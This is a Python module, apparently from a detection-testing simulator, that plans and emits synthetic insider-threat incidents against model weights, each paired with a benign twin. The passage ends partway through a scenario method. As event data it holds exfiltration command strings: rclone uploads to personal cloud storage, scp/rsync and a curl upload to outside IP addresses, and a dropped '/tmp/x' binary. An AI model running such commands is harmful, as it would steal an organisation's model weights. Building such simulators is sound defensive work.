"""Insider scenarios and their benign twins, injected into the organisation's routine.

Each scenario is played several times over the period, each time with a benign twin that
looks alike but is legitimate (a grant, an approved root, the usual tool, a trip). An
:class:`Incident` lists the uids of the events that *are* the activity (the reads, the
copies, the connections, the launches of the programs that did them), never the
surrounding benign events, so an alert hits an incident exactly when its evidence
includes one of them.

Behavioural scenarios (exfiltration, low-and-slow, departing employee, admin tool,
service account host, masquerade) are never placed in the first week, so every entity
has a baseline first; rule scenarios (canary, tamper, unapproved access, staging) may
happen any day after the first. Scenarios pick people of a fitting role, preferring
people not already involved in another incident.

Planning (:meth:`Scenarios.plan`) happens before the routine runs, because some
scenarios change it: a departing employee stops working after their last day, a
travelling employee works only from the road. :meth:`Scenarios.play` then emits every
incident's events through the routine's own helpers, so the activity is shaped exactly
like the benign activity around it.
"""

from __future__ import annotations

import contextlib
import dataclasses
from dataclasses import dataclass, field
from typing import TYPE_CHECKING, Final

from collector.simulation._org import DAY_MS, MINUTE_MS
from collector.simulation._schedule import EXTERNAL, INTERNAL, SECOND_MS, Destination, local_time
from weightwarden.events import FileActivityType

if TYPE_CHECKING:
    import random
    from collections.abc import Callable, Iterator

    from collector.simulation._emit import Emitter
    from collector.simulation._org import Organisation, Person, Project
    from collector.simulation._schedule import Routine
    from weightwarden.events import Event, Process

__all__ = ["SCENARIOS", "Incident", "Recorder", "Scenarios"]

SCENARIOS: Final = (
    "canary_touch",
    "tamper_sealed",
    "unapproved_access",
    "exfil_personal_cloud",
    "exfil_remote_host",
    "low_and_slow",
    "departing_bulk_read",
    "admin_new_tool",
    "service_account_new_host",
    "staging_shm",
    "staging_removable",
    "masquerade",
)
"""Every scenario the simulator plays, in the order incidents are numbered."""

_RULE_SCENARIOS: Final = frozenset(
    {"canary_touch", "tamper_sealed", "unapproved_access", "staging_shm", "staging_removable"}
)
_PERSONAL_CLOUD: Final = (
    ("/usr/bin/rclone", "rclone copy {folder} gdrive:backup/{name}",
     Destination(ip="142.250.72.10", port=443, hostname="www.googleapis.com")),
    ("/usr/bin/rclone", "rclone copy {folder} dropbox:models/{name}",
     Destination(ip="162.125.6.20", port=443, hostname="content.dropboxapi.com")),
    ("PYTHON", "{py} upload.py --src {folder} --bucket ml-scratch-{name}",
     Destination(ip="52.92.16.200", port=443, hostname=None)),
)  # fmt: skip
_REMOTE_HOSTS: Final = ("45.76.132.17", "159.89.201.44", "185.199.229.10", "23.94.58.120")
_NEW_TOOLS: Final = (
    ("/usr/bin/dd", "dd if={shard} of=/dev/stdout bs=16M"),
    ("/usr/bin/xxd", "xxd {shard}"),
    ("/tmp/x", "/tmp/x -r {folder}"),  # noqa: S108 -- the simulated attacker's binary
    ("/usr/bin/curl", "curl -T {shard} https://144.76.136.153/upload"),
    ("/usr/bin/tar", "tar czf - {folder}"),
)
_SVC_TOOLS: Final = (
    ("/usr/bin/scp", "scp -r {folder} 10.77.3.14:/tmp/"),
    ("/usr/bin/tar", "tar cf /tmp/.m.tar {folder}"),
    ("/usr/bin/cp", "cp -r {folder} /tmp/.cache/m"),
)


@dataclass(frozen=True, slots=True, kw_only=True)
class Incident:
    """One labelled incident or benign twin (the labels file's ``incidents`` items)."""

    id: str
    scenario: str
    malicious: bool
    entity: str
    host: str
    start: int
    end: int
    events: tuple[str, ...]
    twin_of: str | None
    description: str


class Recorder:
    """The emitter's sink: passes every event on and keeps those of the incident being played."""

    def __init__(self, sink: Callable[[Event], None]) -> None:
        self._sink = sink
        self._kept: list[Event] | None = None

    def __call__(self, event: Event) -> None:
        """Pass ``event`` on; keep it if an incident is being recorded."""
        self._sink(event)
        if self._kept is not None:
            self._kept.append(event)

    @contextlib.contextmanager
    def recording(self) -> Iterator[list[Event]]:
        """Keep every event emitted inside the block in the yielded list."""
        kept: list[Event] = []
        self._kept = kept
        try:
            yield kept
        finally:
            self._kept = None


@dataclass(slots=True, kw_only=True)
class _Case:
    """One planned incident and its twin: when, and who."""

    scenario: str
    day: int
    actor: str
    twin_actor: str
    twin_day: int
    span: int = 1
    """Days the activity lasts (low-and-slow, departing, travel)."""
    other: str = ""
    """A second person (the masquerade's pattern owner)."""


@dataclass(slots=True)
class _Made:
    """The incident pair a scenario played."""

    bad: tuple[str, str, str]
    """(entity, host, description)."""
    twin: tuple[str, str, str]
    bad_events: list[Event] = field(default_factory=list)
    twin_events: list[Event] = field(default_factory=list)


class Scenarios:
    """Plans and plays the incidents (see the module doc)."""

    def __init__(self, org: Organisation, rng: random.Random, *, per_scenario: int) -> None:
        self.org = org
        self.rng = rng
        self.per_scenario = per_scenario
        self.cases: list[_Case] = []
        self.departures: dict[str, int] = {}
        self.absences: dict[str, set[int]] = {}
        self._used: set[str] = set()

    # -- planning ---------------------------------------------------------------------

    def _weekday(self, day: int) -> bool:
        return (self.org.start // DAY_MS + day + 3) % 7 < 5  # noqa: PLR2004 -- Mon..Fri

    def _days(self, count: int, first: int, last: int) -> list[int]:
        """``count`` weekdays spread over [first, last] (one per equal segment)."""
        last = max(first, last)
        out = []
        width = (last - first + 1) / count
        for k in range(count):
            low = first + int(k * width)
            high = max(low, first + int((k + 1) * width) - 1)
            day = self.rng.randint(low, high)
            for step in (0, 1, -1, 2, -2, 3, -3):
                if first <= day + step <= last and self._weekday(day + step):
                    day += step
                    break
            out.append(day)
        return out

    def _pick(self, pool: list[Person], day: int, *, avoid: tuple[str, ...] = ()) -> Person:
        """Someone from ``pool`` present on ``day``, preferably not in another incident."""
        ready = [
            p
            for p in pool
            if p.joins_day <= day - 3 and p.name not in avoid and p.name not in self.departures
        ]
        fresh = [p for p in ready if p.name not in self._used]
        chosen = self.rng.choice(fresh or ready or pool)
        self._used.add(chosen.name)
        return chosen

    def plan(self) -> None:
        """Choose the day and the people of every incident and twin."""
        org, rng = self.org, self.rng
        days = org.days
        behaviour_first = 7 if days > 9 else max(1, days // 2)  # noqa: PLR2004 -- a week of baseline
        research = org.by_role("researcher")
        humans = research + org.by_role("engineer")
        admins = org.by_role("infra_admin")
        # Departures first: nobody picked for anything else may have left by then.
        for scenario in sorted(SCENARIOS, key=lambda s: s != "departing_bulk_read"):
            first = 1 if scenario in _RULE_SCENARIOS else behaviour_first
            for day in self._days(self.per_scenario, first, days - 2):
                if scenario == "low_and_slow":
                    start = self._days(1, first, min(first + 3, days - 2))[0]
                    span = max(2, min(days - 1 - start, rng.randint(14, 28)))
                    case = _Case(
                        scenario=scenario,
                        day=start,
                        span=span,
                        actor=self._pick(research, start).name,
                        twin_actor=self._pick(research, start).name,
                        twin_day=start,
                    )
                elif scenario == "departing_bulk_read":
                    last = min(day, days - 3)
                    actor = self._pick(research, last)
                    self.departures[actor.name] = last + 2
                    case = _Case(
                        scenario=scenario,
                        day=last,
                        span=2,
                        actor=actor.name,
                        twin_actor=self._pick(research, last).name,
                        twin_day=last,
                    )
                elif scenario == "admin_new_tool":
                    week = min(day // 7, len(org.oncall) - 1)
                    oncall = org.oncall[week]
                    actor = self._pick([a for a in admins if a.name != oncall] or admins, day)
                    case = _Case(
                        scenario=scenario,
                        day=day,
                        actor=actor.name,
                        twin_actor=oncall,
                        twin_day=day,
                    )
                elif scenario == "service_account_new_host":
                    case = self._plan_service(day)
                elif scenario == "masquerade":
                    victim = self._pick(research, day)
                    owner = self._pick(
                        [p for p in research if p.team != victim.team and p.offset != victim.offset]
                        or [p for p in research if p.team != victim.team],
                        day,
                    )
                    traveller = self._pick(research, day, avoid=(victim.name, owner.name))
                    span = min(3, days - 1 - day)
                    self.absences.setdefault(traveller.name, set()).update(range(day, day + span))
                    case = _Case(
                        scenario=scenario,
                        day=day,
                        actor=victim.name,
                        other=owner.name,
                        twin_actor=traveller.name,
                        twin_day=day,
                        span=span,
                    )
                else:
                    case = _Case(
                        scenario=scenario,
                        day=day,
                        actor=self._pick(humans, day).name,
                        twin_actor=self._pick(humans, day).name,
                        twin_day=day,
                    )
                self.cases.append(case)
        self.cases.sort(key=lambda c: SCENARIOS.index(c.scenario))

    def _plan_service(self, day: int) -> _Case:
        org, rng = self.org, self.rng
        svc = rng.choice([s for s in org.services.values() if s.kind in ("train", "eval")])
        new_nodes = sorted(
            (h for h in org.hosts.values() if h.kind == "gpu" and h.added_day > 0),
            key=lambda h: h.name,
        )
        node = rng.choice(new_nodes) if new_nodes else None
        twin_svc = next(
            (
                s
                for s in org.services.values()
                if s.kind == "train" and node is not None and node.name in s.hosts
            ),
            None,
        ) or next(s for s in org.services.values() if s.kind == "train")
        return _Case(
            scenario="service_account_new_host",
            day=day,
            actor=svc.name,
            twin_actor=twin_svc.name,
            twin_day=node.added_day if node is not None else day,
            other=node.name if node is not None else twin_svc.hosts[0],
        )

    # -- playing ----------------------------------------------------------------------

    def play(self, routine: Routine, emit: Emitter, recorder: Recorder) -> list[Incident]:
        """Emit every planned incident and twin; return them, numbered in plan order."""
        player = _Player(self.org, routine, emit, recorder, self.rng)
        incidents: list[Incident] = []
        for case in self.cases:
            made = getattr(player, case.scenario)(case)
            bad_id = f"inc-{len(incidents) + 1:04d}"
            incidents.append(_incident(bad_id, case.scenario, made.bad, made.bad_events, None))
            incidents.append(
                _incident(
                    f"inc-{len(incidents) + 1:04d}",
                    case.scenario,
                    made.twin,
                    made.twin_events,
                    bad_id,
                )
            )
        return incidents


def _incident(
    incident_id: str,
    scenario: str,
    who: tuple[str, str, str],
    events: list[Event],
    twin_of: str | None,
) -> Incident:
    if not events:
        msg = f"scenario {scenario} emitted no events for {incident_id}"
        raise AssertionError(msg)
    entity, host, description = who
    return Incident(
        id=incident_id,
        scenario=scenario,
        malicious=twin_of is None,
        entity=entity,
        host=host,
        start=min(e.time for e in events),
        end=max(e.time for e in events),
        events=tuple(e.uid for e in events),
        twin_of=twin_of,
        description=description,
    )


class _Player:
    """Emits the events of each scenario; one method per scenario, named as it."""

    def __init__(
        self,
        org: Organisation,
        routine: Routine,
        emit: Emitter,
        recorder: Recorder,
        rng: random.Random,
    ) -> None:
        self.org = org
        self.routine = routine
        self.emit = emit
        self.recorder = recorder
        self.rng = rng
        self.unauthorised: set[tuple[str, str]] = set()
        """(user, asset) pairs read without authorisation: never granted later."""

    # -- helpers ----------------------------------------------------------------------

    def person(self, name: str) -> Person:
        return self.org.people[name]

    def at_work(self, person: Person, day: int, *, late: bool = False) -> int:
        """A moment of ``person``'s working day (or their late evening)."""
        if late:
            minute = self.rng.uniform(20 * 60, 23 * 60 + 30)
        else:
            minute = person.start_minute + self.rng.uniform(30, max(60, person.day_minutes - 30))
        return local_time(self.org, day, minute, person.offset)

    def own_project(self, person: Person) -> Project:
        name = person.project or (person.projects[0] if person.projects else None)
        return (
            self.org.projects[name] if name else self.rng.choice(list(self.org.projects.values()))
        )

    def foreign_project(self, person: Person) -> Project | None:
        """A project ``person`` has no access to (not theirs, not their team's, not granted).

        Nor one they already read without authorisation, so that no later grant covers it.
        None when every project is open to them.
        """
        granted = {g.asset for g in self.org.grants if g.user == person.name}
        taken = {asset for user, asset in self.unauthorised if user == person.name}
        mine = {*person.projects, *(person.project,), *granted, *taken}
        if person.switch is not None:
            mine.add(person.switch[1])
        pool = [p for n, p in self.org.projects.items() if n not in mine]
        return self.rng.choice(pool) if pool else None

    def other_project(self, person: Person) -> Project:
        """A foreign project if there is one, else any project but their own."""
        foreign = self.foreign_project(person)
        if foreign is not None:
            return foreign
        pool = [p for n, p in self.org.projects.items() if n != person.project]
        return self.rng.choice(pool or list(self.org.projects.values()))

    def transfer(  # noqa: PLR0917 -- one read-and-send of a set of shards
        self,
        proc: Process,
        host: str,
        project: Project,
        step: int | None,
        time: int,
        dest: Destination,
        *,
        sender: Process | None = None,
        indices: list[int] | range | None = None,
        share: tuple[float, float] = (0.98, 1.02),
    ) -> int:
        """``proc`` reads shards and sends each (``share`` of its size) to ``dest``; returns end."""
        rng = self.rng
        self.emit.launch(time, host, proc)
        t = time + rng.randint(1, 5) * SECOND_MS
        picked = range(len(project.shard_sizes)) if indices is None else indices
        for index in picked:
            size = project.shard_sizes[index]
            duration = int(size / rng.uniform(0.08e9, 0.4e9) * SECOND_MS)
            opened, _ = self.emit.read(
                t, duration, host, proc, project.shard_path(step, index), size, read=1.0
            )
            self.emit.connect(
                t + rng.randint(1, 4) * SECOND_MS, host, sender or proc, ip=dest.ip,
                port=dest.port, hostname=dest.hostname,
                bytes_out=int(size * rng.uniform(*share)), bytes_in=rng.randint(10**4, 10**6),
                session=opened.session_uid,
            )  # fmt: skip
            t += duration + rng.randint(1, 20) * SECOND_MS
        return t

    def copies(  # noqa: PLR0917 -- reads then copies of a checkpoint
        self,
        proc: Process,
        host: str,
        project: Project,
        step: int,
        time: int,
        folder: str,
        indices: list[int] | range | None = None,
    ) -> int:
        """``proc`` reads shards of ``step`` and copies each into ``folder``; returns the end."""
        rng = self.rng
        self.emit.launch(time, host, proc)
        t = time
        picked = range(len(project.shard_sizes)) if indices is None else indices
        for index in picked:
            size = project.shard_sizes[index]
            duration = int(size / rng.uniform(0.3e9, 1.5e9) * SECOND_MS)
            t += rng.randint(1, 5) * SECOND_MS
            source = project.shard_path(step, index)
            self.emit.read(t, duration, host, proc, source, size, read=1.0)
            copy = f"{folder}/{source.rpartition('/')[2]}"
            self.emit.copy(t + duration + SECOND_MS, host, proc, copy, size, source)
            t += duration
        return t

    def record(self) -> contextlib.AbstractContextManager[list[Event]]:
        return self.recorder.recording()

    # -- scenarios --------------------------------------------------------------------

    def canary_touch(self, case: _Case) -> _Made:
        bad = self.person(case.actor)
        project = self.rng.choice(list(self.org.projects.values()))
        t = self.at_work(bad, case.day)
        with self.record() as bad_events:
            tool, cmd = self.rng.choice(
                (
                    (bad.python, f"{bad.python.rpartition('/')[2]} -c 'import safetensors'"),
                    ("/usr/bin/head", f"head -c 4096 {project.canary}"),
                    ("/usr/bin/cp", f"cp {project.canary} /tmp/"),
                )
            )
            proc = self.emit.interactive(bad, tool, cmd)
            self.emit.launch(t, bad.dev_host, proc)
            self.emit.read(
                t + SECOND_MS, 3 * SECOND_MS, bad.dev_host, proc, project.canary,
                project.shard_sizes[0], read=self.rng.uniform(0.0001, 1.0),
                canary=True,
            )  # fmt: skip
        members = [self.person(m) for m in self.org.groups[f"proj-{project.name}"]]
        twin = self.rng.choice([m for m in members if m.name != bad.name] or members)
        t = self.at_work(twin, case.twin_day)
        index = self.rng.randrange(len(project.shard_sizes))
        with self.record() as twin_events:
            proc = self.emit.notebook(twin, f"{twin.python} -m ipykernel_launcher -f kernel.json")
            self.emit.read(
                t, 5 * MINUTE_MS, twin.dev_host, proc, project.shard_path(None, index),
                project.shard_sizes[index], mapped=self.rng.uniform(0.3, 1.0),
            )  # fmt: skip
        return _Made(
            bad=(bad.name, bad.dev_host, f"{bad.name} opened the decoy {project.canary}."),
            twin=(
                twin.name,
                twin.dev_host,
                f"{twin.name} read a released shard of {project.name}, beside its decoy.",
            ),
            bad_events=bad_events,
            twin_events=twin_events,
        )

    def tamper_sealed(self, case: _Case) -> _Made:
        bad = self.person(case.actor)
        project = self.own_project(bad)
        t = self.at_work(bad, case.day)
        old = list(project.written_before(t - DAY_MS)) or list(project.checkpoints[:1])
        step = self.rng.choice(old).step
        index = self.rng.randrange(len(project.shard_sizes))
        path = project.shard_path(step, index)
        size = project.shard_sizes[index]
        with self.record() as bad_events:
            proc = self.emit.interactive(
                bad, bad.python, f"{bad.python.rpartition('/')[2]} patch_weights.py {path}"
            )
            self.emit.launch(t, bad.dev_host, proc)
            opened, _ = self.emit.read(
                t + SECOND_MS, 40 * SECOND_MS, bad.dev_host, proc, path, size, read=1.0
            )
            write = self.emit.write(
                t + 50 * SECOND_MS, bad.dev_host, proc, path, size,
                activity=FileActivityType.UPDATE,
            )  # fmt: skip
            self.emit.tampered(
                t + self.rng.randint(2, 8) * MINUTE_MS, bad.dev_host, proc, path, size, write.uid
            )
            del opened
        svc = self.org.services[f"svc-train-{project.name}"]
        twin_t = local_time(self.org, case.twin_day, self.rng.uniform(0, 1440), 0)
        latest = project.latest(twin_t)
        later = [c for c in project.checkpoints if c.step > latest.step]
        mid = (latest.step + later[0].step) // 2 if later else latest.step + 250
        node = self.routine.nodes(project, case.twin_day, 1)[0]
        job = str(self.rng.randint(1_000_000, 9_999_999))
        with self.record() as twin_events:
            proc = self.emit.batch(
                svc.name, svc.uid, "/usr/bin/python3.11",
                f"python3.11 -m torch.distributed.run --nproc-per-node 8 pretrain.py "
                f"--save {project.root} --save-on-preempt",
                job,
            )  # fmt: skip
            self.routine.write_checkpoint(proc, node, project, mid, twin_t)
        twin_events[:] = [e for e in twin_events if e.actor is not None and e.actor.process is proc]  # type: ignore[union-attr]
        return _Made(
            bad=(bad.name, bad.dev_host, f"{bad.name} rewrote the sealed {path}."),
            twin=(
                svc.name,
                node,
                f"{svc.name} wrote a new checkpoint step-{mid} of {project.name}.",
            ),
            bad_events=bad_events,
            twin_events=twin_events,
        )

    def unapproved_access(self, case: _Case) -> _Made:
        bad = self.person(case.actor)
        project = self.foreign_project(bad)
        if project is None:  # all open to them (an engineer of every project): someone else
            for other in self.rng.sample(
                self.org.by_role("researcher"), k=len(self.org.by_role("researcher"))
            ):
                bad, project = other, self.foreign_project(other)
                if project is not None:
                    break
        if project is None:
            msg = "unapproved_access needs someone with a project they may not read"
            raise AssertionError(msg)
        t = self.at_work(bad, case.day)
        self.unauthorised.add((bad.name, project.name))
        with self.record() as bad_events:
            self._read_other(bad, project, t)
        twin = self.person(case.twin_actor)
        if twin.name == bad.name or project.name in (twin.project, *twin.projects):
            twin = self.rng.choice(
                [
                    p
                    for p in self.org.by_role("researcher")
                    if p.project != project.name and p.name != bad.name
                ]
            )
        t = self.at_work(twin, case.twin_day)
        self.org.add_grant(
            user=twin.name,
            asset=project.name,
            reason=f"evaluate {project.name} against our baseline",
            created_at=t - self.rng.randint(1, 48) * 3_600_000,
            until=t + self.rng.randint(3, 30) * DAY_MS,
        )
        with self.record() as twin_events:
            self._read_other(twin, project, t)
        return _Made(
            bad=(
                bad.name,
                bad.dev_host,
                f"{bad.name} read {project.name}, which no rule lets them read.",
            ),
            twin=(
                twin.name,
                twin.dev_host,
                f"{twin.name} read {project.name} under a valid grant.",
            ),
            bad_events=bad_events,
            twin_events=twin_events,
        )

    def _read_other(self, person: Person, project: Project, time: int) -> None:
        step = project.latest(time).step
        proc = self.emit.interactive(
            person,
            person.python,
            f"{person.python.rpartition('/')[2]} compare.py --ckpt {project.root}/step-{step}",
        )
        self.emit.launch(time, person.dev_host, proc)
        count = len(project.shard_sizes)
        picked = sorted(self.rng.sample(range(count), min(count, self.rng.randint(2, 6))))
        self.routine.load(time + SECOND_MS, person.dev_host, proc, project, step, picked)

    def exfil_personal_cloud(self, case: _Case) -> _Made:
        bad = self.person(case.actor)
        project = self.own_project(bad)
        late = self.rng.random() < 0.3  # noqa: PLR2004
        t = self.at_work(bad, case.day, late=late)
        step = project.latest(t).step
        folder = f"{project.root}/step-{step}"
        tool, cmd, dest = self.rng.choice(_PERSONAL_CLOUD)
        if tool == "PYTHON":
            tool = bad.python
        cmd = cmd.format(folder=folder, name=bad.name, py=bad.python.rpartition("/")[2])
        with self.record() as bad_events:
            proc = self.emit.interactive(bad, tool, cmd)
            self.transfer(proc, bad.dev_host, project, step, t, dest)
        twin = self.person(case.twin_actor)
        twin_project = self.own_project(twin)
        t = self.at_work(twin, case.twin_day)
        step = twin_project.latest(t).step
        with self.record() as twin_events:
            proc = self.emit.interactive(
                twin,
                "/usr/bin/rclone",
                f"rclone copy {twin_project.root}/step-{step} "
                f"corp-s3:ckpt-archive/{twin_project.name}",
            )
            self.transfer(proc, twin.dev_host, twin_project, step, t, INTERNAL["s3"])
        where = dest.hostname or dest.ip
        return _Made(
            bad=(bad.name, bad.dev_host, f"{bad.name} uploaded {folder} to {where}."),
            twin=(
                twin.name,
                twin.dev_host,
                f"{twin.name} archived {twin_project.name} to the internal object store.",
            ),
            bad_events=bad_events,
            twin_events=twin_events,
        )

    def exfil_remote_host(self, case: _Case) -> _Made:
        bad = self.person(case.actor)
        project = self.own_project(bad)
        t = self.at_work(bad, case.day, late=self.rng.random() < 0.3)  # noqa: PLR2004
        step = project.latest(t).step
        folder = f"{project.root}/step-{step}"
        ip = self.rng.choice(_REMOTE_HOSTS)
        tool = self.rng.choice(("scp", "rsync"))
        cmd = (
            f"scp -r {folder} {bad.name}@{ip}:models/"
            if tool == "scp"
            else f"rsync -az {folder}/ {bad.name}@{ip}:models/{project.name}/"
        )
        count = len(project.shard_sizes)
        picked = sorted(self.rng.sample(range(count), self.rng.randint(max(1, count // 2), count)))
        with self.record() as bad_events:
            proc = self.emit.interactive(bad, f"/usr/bin/{tool}", cmd)
            ssh = self.emit.child(proc, "/usr/bin/ssh", f"ssh -x -l {bad.name} {ip}")
            self.transfer(
                proc, bad.dev_host, project, step, t, Destination(ip=ip, port=22),
                sender=ssh, indices=picked,
            )  # fmt: skip
        admins = self.org.by_role("infra_admin")
        twin_project = self.rng.choice(list(self.org.projects.values()))
        if self.rng.random() < 0.5:  # noqa: PLR2004 -- a backup re-run
            svc = self.org.services["svc-backup"]
            t = local_time(self.org, case.twin_day, self.rng.uniform(60, 300), 0)
            with self.record() as twin_events:
                self.routine.backup(svc, twin_project, t)
            twin: tuple[str, str, str] = (
                svc.name,
                twin_events[0].device.hostname,  # type: ignore[union-attr]
                f"svc-backup re-ran the backup of {twin_project.name} to backup-01.",
            )
        else:
            admin = self.rng.choice(admins)
            t = self.at_work(admin, case.twin_day)
            step = twin_project.latest(t).step
            host = self.rng.choice([h.name for h in self.org.hosts.values() if h.kind == "storage"])
            with self.record() as twin_events:
                proc = self.emit.sudo(
                    admin, "/usr/bin/rsync",
                    f"rsync -a {twin_project.root}/step-{step}/ "
                    f"backup-01:/backup/ckpt/{twin_project.name}/",
                )  # fmt: skip
                ssh = self.emit.child(proc, "/usr/bin/ssh", "ssh backup-01 rsync --server")
                self.transfer(proc, host, twin_project, step, t, INTERNAL["backup"], sender=ssh)
            twin = (
                admin.name,
                host,
                f"{admin.name} copied {twin_project.name} to backup-01 by hand.",
            )
        return _Made(
            bad=(
                bad.name,
                bad.dev_host,
                f"{bad.name} copied {folder} to the outside host {ip} with {tool}.",
            ),
            twin=twin,
            bad_events=bad_events,
            twin_events=twin_events,
        )

    def low_and_slow(self, case: _Case) -> _Made:
        bad = self.person(case.actor)
        project = self.own_project(bad)
        hub = EXTERNAL["huggingface"]
        with self.record() as bad_events:
            for day in range(case.day, case.day + case.span):
                if day > case.day and self.routine.weekday(day) >= 5:  # noqa: PLR2004 -- weekdays
                    continue
                t = self.at_work(bad, day)
                written = project.written_before(t)
                step = self.rng.choice(written or project.checkpoints[:1]).step
                count = len(project.shard_sizes)
                picked = sorted(self.rng.sample(range(count), min(count, self.rng.randint(1, 2))))
                proc = self.emit.interactive(
                    bad, bad.python,
                    f"{bad.python.rpartition('/')[2]} analysis/probe_layers.py --step {step}",
                )  # fmt: skip
                self.emit.launch(t, bad.dev_host, proc)
                loaded = self.routine.load(
                    t + SECOND_MS, bad.dev_host, proc, project, step, picked, mapped=(0.3, 1.0)
                )
                self.emit.connect(
                    t + self.rng.randint(5, 30) * MINUTE_MS, bad.dev_host, proc, ip=hub.ip,
                    port=hub.port, hostname=hub.hostname,
                    bytes_out=self.rng.randint(50 * 10**6, 400 * 10**6),
                    bytes_in=self.rng.randint(10**4, 10**6), session=loaded.sessions[-1],
                )  # fmt: skip
        twin = self.person(case.twin_actor)
        target = self.other_project(twin)
        self.org.add_grant(
            user=twin.name,
            asset=target.name,
            reason=f"joining {target.name} part-time",
            created_at=self.org.start + case.twin_day * DAY_MS - 6 * 3_600_000,
            until=self.org.start + (case.twin_day + case.span + 60) * DAY_MS,
        )
        with self.record() as twin_events:
            for n, day in enumerate(range(case.twin_day, case.twin_day + case.span)):
                if day > case.twin_day and self.routine.weekday(day) >= 5:  # noqa: PLR2004 -- weekdays
                    continue
                for _ in range(1 + n // 3):
                    t = self.at_work(twin, day)
                    written = target.written_before(t) or target.checkpoints[:1]
                    count = len(target.shard_sizes)
                    picked = sorted(
                        self.rng.sample(range(count), min(count, self.rng.randint(1, 3)))
                    )
                    proc = self.emit.notebook(
                        twin, f"{twin.python} -m ipykernel_launcher -f kernel.json"
                    )
                    self.routine.load(
                        t, twin.dev_host, proc, target, written[-1].step, picked, mapped=(0.3, 1.0)
                    )
        return _Made(
            bad=(bad.name, bad.dev_host,
                 (f"{bad.name} read extra shards of {project.name} daily and pushed them "
                  "to huggingface.co.")),
            twin=(twin.name, twin.dev_host,
                  f"{twin.name} ramped up reads of {target.name} after joining it with a grant."),
            bad_events=bad_events,
            twin_events=twin_events,
        )  # fmt: skip

    def departing_bulk_read(self, case: _Case) -> _Made:
        bad = self.person(case.actor)
        own = self.own_project(bad)
        foreign = [self.foreign_project(bad) for _ in range(self.rng.randint(1, 2))]
        others = [p for p in foreign if p is not None]
        self.unauthorised.update((bad.name, p.name) for p in others)
        with self.record() as bad_events:
            for offset in range(case.span):
                day = case.day + offset
                t = self.at_work(bad, day)
                targets = [own] * self.rng.randint(2, 3) + others[offset : offset + 1]
                for project in targets:
                    written = project.written_before(t) or project.checkpoints[:1]
                    step = self.rng.choice(written).step
                    home = self.rng.random() < 0.7  # noqa: PLR2004
                    base = (
                        f"/home/{bad.name}/keep/{project.name}/step-{step}"
                        if home
                        else f"/tmp/{bad.name}-{step}"  # noqa: S108 -- a simulated path
                    )
                    proc = self.emit.interactive(
                        bad, "/usr/bin/cp", f"cp -r {project.root}/step-{step} {base}"
                    )
                    t = self.copies(
                        proc, bad.dev_host, project, step, t,
                        base,
                    ) + self.rng.randint(5, 60) * MINUTE_MS  # fmt: skip
        twin = self.person(case.twin_actor)
        own = self.own_project(twin)
        extra = self.other_project(twin)
        t = self.at_work(twin, case.twin_day)
        self.org.add_grant(
            user=twin.name,
            asset=extra.name,
            reason="migrate checkpoints to the new storage tier (INFRA-2231)",
            created_at=t - 2 * DAY_MS,
            until=t + 14 * DAY_MS,
        )
        with self.record() as twin_events:
            for offset in range(case.span):
                t = self.at_work(twin, case.twin_day + offset)
                for project in (own, own, extra):
                    written = project.written_before(t) or project.checkpoints[:1]
                    step = self.rng.choice(written).step
                    base = f"/data/migration/{project.name}/step-{step}"
                    proc = self.emit.interactive(
                        twin, "/usr/bin/rsync", f"rsync -a {project.root}/step-{step}/ {base}/"
                    )
                    t = self.copies(
                        proc, twin.dev_host, project, step, t,
                        base,
                    ) + self.rng.randint(5, 60) * MINUTE_MS  # fmt: skip
        return _Made(
            bad=(bad.name, bad.dev_host,
                 f"{bad.name} copied many checkpoints to personal folders in their last days."),
            twin=(twin.name, twin.dev_host,
                  f"{twin.name} migrated checkpoints to /data/migration under a grant."),
            bad_events=bad_events,
            twin_events=twin_events,
        )  # fmt: skip

    def admin_new_tool(self, case: _Case) -> _Made:
        bad = self.person(case.actor)
        usual = set(self.routine.admin_tools(bad.name))
        tool, pattern = self.rng.choice([t for t in _NEW_TOOLS if t[0] not in usual])
        project = self.rng.choice(list(self.org.projects.values()))
        t = self.at_work(bad, case.day, late=self.rng.random() < 0.5)  # noqa: PLR2004
        step = project.latest(t).step
        count = len(project.shard_sizes)
        picked = sorted(self.rng.sample(range(count), min(count, self.rng.randint(1, 4))))
        host = self.rng.choice(
            [
                h.name
                for h in self.org.hosts.values()
                if h.kind in ("storage", "gpu") and h.added_day == 0
            ]
        )
        cmd = pattern.format(
            shard=project.shard_path(step, picked[0]), folder=f"{project.root}/step-{step}"
        )
        with self.record() as bad_events:
            proc = self.emit.sudo(bad, tool, cmd)
            if tool.endswith("curl"):
                self.transfer(
                    proc, host, project, step, t,
                    Destination(ip="144.76.136.153", port=443, hostname=None), indices=picked,
                )  # fmt: skip
            else:
                self.emit.launch(t, host, proc)
                self.routine.load(
                    t + SECOND_MS, host, proc, project, step, picked, mapped=(0, 0), read=(1.0, 1.0)
                )
        twin = self.person(case.twin_actor)
        t = local_time(self.org, case.twin_day, 22 * 60 + self.rng.uniform(30, 420), twin.offset)
        with self.record() as twin_events:
            uids = set(self.routine.admin_check(twin, t))
        twin_events[:] = [e for e in twin_events if e.uid in uids]
        return _Made(
            bad=(bad.name, host,
                 f"{bad.name} read weights as root with {tool}, a program they never used."),
            twin=(twin.name, twin_events[0].device.hostname,  # type: ignore[union-attr]
                  f"{twin.name}, on call, checked checkpoints with their usual tool."),
            bad_events=bad_events,
            twin_events=twin_events,
        )  # fmt: skip

    def service_account_new_host(self, case: _Case) -> _Made:
        svc = self.org.services[case.actor]
        project = self.org.projects[self.rng.choice(svc.projects)]
        host = self.rng.choice(
            [h.name for h in self.org.hosts.values() if h.kind in ("dev", "login", "vdi")]
        )
        origin = f"10.77.{self.rng.randint(0, 20)}.{self.rng.randint(2, 250)}"
        t = local_time(self.org, case.day, self.rng.uniform(0, 1440), 0)
        step = project.latest(t).step
        tool, pattern = self.rng.choice(_SVC_TOOLS)
        with self.record() as bad_events:
            proc = self.emit.login(
                svc.name, svc.uid, tool, pattern.format(folder=f"{project.root}/step-{step}"),
                origin=origin,
            )  # fmt: skip
            self.emit.launch(t, host, proc)
            self.routine.load(
                t + SECOND_MS, host, proc, project, step, range(len(project.shard_sizes)),
                mapped=(0, 0), read=(1.0, 1.0),
            )  # fmt: skip
        twin_svc = self.org.services[case.twin_actor]
        twin_project = self.org.projects[twin_svc.projects[0]]
        node = case.other
        t = local_time(self.org, case.twin_day, self.rng.uniform(60, 1380), 0)
        step = twin_project.latest(t).step
        job = str(self.rng.randint(1_000_000, 9_999_999))
        with self.record() as twin_events:
            proc = self.emit.batch(
                twin_svc.name, twin_svc.uid, "/usr/bin/python3.11",
                f"python3.11 -m torch.distributed.run --nproc-per-node 8 pretrain.py "
